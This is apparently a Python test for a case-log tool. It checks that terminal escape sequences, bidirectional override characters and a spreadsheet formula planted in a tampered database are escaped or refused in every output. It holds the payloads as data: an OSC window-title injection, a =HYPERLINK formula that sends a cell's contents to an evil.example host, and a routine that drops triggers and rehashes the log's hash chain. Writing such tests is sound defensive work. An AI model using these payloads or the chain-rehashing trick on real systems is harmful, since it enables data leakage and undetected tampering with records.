#!/usr/bin/env python3
"""Stored text cannot attack the reader of cycle's output (README, Reliability).

  usage: hostile_text.py CYCLE ROOT

On the shipped 2021 example (EXAMPLE DATA) the test plants, behind cycle's back but with the
hash chain recomputed (so that `verify` passes, as it would for a database someone prepared),
a case title and a reason full of what drives a terminal: ESC sequences (CSI colour, OSC window
title), BEL, a lone CR, DEL, the C1 code CSI (U+009B) and bidirectional overrides, isolates and
marks. It also opens a case with an actor that is a spreadsheet formula, which cycle accepts as
it is (it is one line of text).

Such a row breaks the limits every stored row keeps (engine/log/event_limits.hpp: no command line
or import can store it), so:
  - `verify` names it, `case log broken at #N: reason: expected one line of text, got "..."`,
    with the text escaped (`\\u001B`, `\\r`, `\\u202E`);
  - `log`, `case show`, `status`, `remind`, `remind --format mail`, `log --format json|csv` and
    `export` refuse it with exit 4 and the one escaped line
    `cycle: case log #N cannot be read (...); run cycle verify`, and print not one raw control
    character (but the line structure: LF, or CRLF in mail and CSV), DEL, C1 code or
    bidirectional formatting character; a title in a case-opened row is refused by the readers
    of the whole log, and `status`, which reads the workflow events only, is unaffected;
  - `log --format csv` and `case show --format csv` print the formula actor (one line of text,
    which cycle stores) as the cell `'=HYPERLINK(...)` (quoted per RFC 4180), the exact record.
"""
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import tempfile

sys.dont_write_bytecode = True  # no __pycache__ in the source tree
from harness import check, example_database, verdict  # noqa: E402

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "reliability"))
from tamper import COLUMNS, GENESIS, chain_hash  # noqa: E402 (the chain as tamper.py computes it)

TITLE = ("Sak \x1b[31mrød\x1b[0m \x9b2J \u202eevil\u202c \u2066iso\u2069 "
         "bell\x07 cr\rX del\x7f æøå")
TITLE_SHOWN = ("Sak \\u001B[31mrød\\u001B[0m \\u009B2J \\u202Eevil\\u202C \\u2066iso\\u2069 "
               "bell\\u0007 cr\\rX del\\u007F æøå")
REASON = "reorganisation \x1b]0;owned\x07 \u200e\u200f\u061c\u202e2.3"
REASON_SHOWN = "reorganisation \\u001B]0;owned\\u0007 \\u200E\\u200F\\u061C\\u202E2.3"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klikk")'

# What may not reach a reader raw: C0 (but LF), DEL, C1, and the bidirectional formatting and
# line-separating characters.
FORBIDDEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029"
                       "\u202a-\u202e\u2066-\u2069]")
RECORDED_AT = "2021-10-01T12:00:00Z"


# ---------------------------------------------------------------- planting

def plant(db, changes):
    """Applies `changes` ({seq: {column: value}}) with the triggers out of the way, rehashes
    the whole chain (the events before the first change keep their hashes), and puts the triggers back."""
    conn = sqlite3.connect(db)
    conn.row_factory = sqlite3.Row
    triggers = list(conn.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'"))
    for name, _ in triggers:
        conn.execute(f"DROP TRIGGER {name}")
    for seq, values in changes.items():
        for column, value in values.items():
            conn.execute(f"UPDATE case_log SET {column} = ? WHERE seq = ?", (value, seq))
    prev = GENESIS
    for row in [dict(r) for r in conn.execute(
            "SELECT " + ", ".join(COLUMNS) + " FROM case_log ORDER BY seq")]:
        digest = chain_hash(prev, row)
        conn.execute("UPDATE case_log SET prev_hash = ?, hash = ? WHERE seq = ?",
                     (prev, digest, row["seq"]))
        prev = digest
    for _, sql in triggers:
        conn.execute(sql)
    conn.commit()
    conn.close()


# ---------------------------------------------------------------- running cycle

def run(cycle, db, *args, ok=True):
    env = dict(os.environ, CYCLE_RECORDED_AT=RECORDED_AT)
    done = subprocess.run([cycle, "--db", db, *args], capture_output=True, env=env)
    if ok and done.returncode not in (0, 1):
        check(False, f"{' '.join(args)}: exit {done.returncode}: {done.stderr!r}")
    return done


def shown(what, done, crlf=False):
    """The output as text, after checking it holds nothing raw that could drive a terminal."""
    for stream, data in (("stdout", done.stdout), ("stderr", done.stderr)):
        try:
            text = data.decode("utf-8")
        except UnicodeDecodeError as error:
            check(False, f"{what}: {stream} is not valid UTF-8: {error}")
            continue
        if crlf:
            text = text.replace("\r\n", "\n")
        raw = sorted(set(FORBIDDEN.findall(text)))
        check(not raw, f"{what}: {stream} holds raw {[hex(ord(c)) for c in raw]}")
    return done.stdout.decode("utf-8", errors="replace")


def main():
    cycle, root = os.path.abspath(sys.argv[1]), os.path.abspath(sys.argv[2])
    with tempfile.TemporaryDirectory() as work:
        db = os.path.join(work, "cycle.db")
        example_database(cycle, root, db)
        opened = run(cycle, db, "--today", "2021-09-01", "case", "open", "--body", "board",
                     "--title", "PLANTED LATER", "--date", "2021-09-01")
        number = opened.stdout.decode().strip()
        formula = run(cycle, db, "--today", "2021-09-02", "--actor", FORMULA, "case", "open",
                      "--body", "board", "--title", "Budsjett, 2022", "--date", "2021-09-02")
        formula_number = formula.stdout.decode().strip()
        conn = sqlite3.connect(db)
        title_seq = conn.execute("SELECT seq FROM case_log WHERE details LIKE ?",
                                 ('%PLANTED LATER%',)).fetchone()[0]
        formula_seq = title_seq + 1
        reason_seq = conn.execute("SELECT min(seq) FROM case_log WHERE kind = 'contingent-set' "
                                  "AND irregular = 1").fetchone()[0]
        conn.close()
        today = ["--today", "2021-10-01"]
        # A formula is one line of text, so cycle stores it; CSV must not let it run.
        record = (f'{formula_seq},{RECORDED_AT},2021-09-02,"\'{FORMULA.replace(chr(34), 2 * chr(34))}",'
                  f'board,{formula_number},case-opened,,"{{""title"":""Budsjett, 2022""}}",no,\r\n')
        csv = shown("log csv", run(cycle, db, *today, "log", "--format", "csv"), crlf=True)
        check("\r\n" + record in csv,
              f"log --format csv: no record {record!r}")
        csv = shown("case show csv", run(cycle, db, *today, "case", "show", formula_number,
                                         "--format", "csv"), crlf=True)
        check(csv.endswith("\r\n" + record), f"case show --format csv: {csv!r}, expected {record!r}")

        # Planted text that no command line or import could store: the row breaks the limits
        # every stored row keeps (engine/log/event_limits.hpp), so verify names it and every reader
        # refuses it with exit 4, showing it only escaped.
        titled = os.path.join(work, "titled.db")
        shutil.copyfile(db, titled)
        details = json.dumps({"title": TITLE}, ensure_ascii=False, separators=(",", ":"),
                             sort_keys=True)
        plant(db, {reason_seq: {"reason": REASON}})
        plant(titled, {title_seq: {"details": details}})
        reason_problem = f'reason: expected one line of text, got "{REASON_SHOWN}"'
        title_problem = f'details.title: expected one line of text, got "{TITLE_SHOWN}"'
        for path, seq, problem in ((db, reason_seq, reason_problem),
                                   (titled, title_seq, title_problem)):
            verified = run(cycle, path, *today, "verify")
            out = shown("verify", verified)
            check(verified.returncode == 1 and out == f"case log broken at #{seq}: {problem}\n",
                  f"verify after planting #{seq}: exit {verified.returncode}, {out!r}")
        refusal = f"cycle: case log #{reason_seq} cannot be read ({reason_problem}); run cycle verify\n"
        readers = [("log",), ("case", "show", number), ("status", "--lang", "en"),
                   ("remind", "--lang", "en"),
                   ("remind", "--format", "mail", "--from", "post@example.org", "--to",
                    "board@example.org"),
                   ("log", "--format", "json"), ("log", "--format", "csv"), ("export",)]
        for args in readers:
            done = run(cycle, db, *today, *args, ok=False)
            shown(" ".join(args), done)
            # export streams: the events before the broken one are out when it stops.
            check(done.returncode == 4 and done.stderr.decode("utf-8", "replace") == refusal
                  and (done.stdout == b"" or args == ("export",)),
                  f"{' '.join(args)}: exit {done.returncode}, {done.stderr!r}")
        # The title is in a case-opened row: the whole log's readers refuse it; status, which
        # reads the workflow events only, never decodes it.
        refusal = f"cycle: case log #{title_seq} cannot be read ({title_problem}); run cycle verify\n"
        for args in [("log",), ("case", "show", number), ("export",)]:
            done = run(cycle, titled, *today, *args, ok=False)
            shown(" ".join(args), done)
            check(done.returncode == 4 and done.stderr.decode("utf-8", "replace") == refusal,
                  f"{' '.join(args)} of the titled copy: exit {done.returncode}, {done.stderr!r}")
        status = run(cycle, titled, *today, "status", "--lang", "en")
        shown("status of the titled copy", status)
        check(status.returncode == 0, f"status of the titled copy: exit {status.returncode}")
    return verdict("stored text: escaped in every text output, formulas neutralised in CSV")


if __name__ == "__main__":
    sys.exit(main())
